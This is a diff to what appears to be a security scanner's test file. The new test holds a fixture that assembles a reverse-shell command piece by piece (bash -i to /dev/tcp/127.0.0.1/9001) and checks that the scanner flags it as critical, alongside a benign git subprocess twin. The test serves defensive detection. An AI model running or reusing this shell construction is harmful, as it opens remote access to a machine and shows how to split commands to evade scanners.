@@ -176,3 +176,28 @@ def test_a_dns_lookup_carrying_no_data_is_medium_and_data_in_the_name_is_exfiltr
     report = scan({"plug/__init__.py": bad})
     assert any(f.severity is C for f in _hits(report.findings, "exfiltration"))
     assert [f.severity for f in _hits(report.findings, "network-access")] == [H]
+
+
+def test_a_command_list_built_with_append_and_item_assignment_folds() -> None:
+    bad = """
+        import os
+        def go():
+            parts = []
+            parts.append("bash")
+            parts.extend(["-i", ">&"])
+            opts = {}
+            opts["dev"] = "/dev/tcp/127.0.0.1/9001"
+            parts.append(opts["dev"])
+            os.system(" ".join(parts))
+    """
+    hit = _hits(scan({"plug/__init__.py": bad}).findings, "reverse-shell")
+    assert [(f.severity, f.line) for f in hit] == [(C, 10)]
+    twin = """
+        import subprocess
+        def log():
+            cmd = ["git"]
+            cmd.extend(["log", "--oneline"])
+            return subprocess.run(cmd, capture_output=True, text=True).stdout
+    """
+    report = scan({"plug/__init__.py": twin}, {"subprocess": ["git"]})
+    assert [(f.rule, f.declared) for f in report.findings] == [("process-spawn", True)]
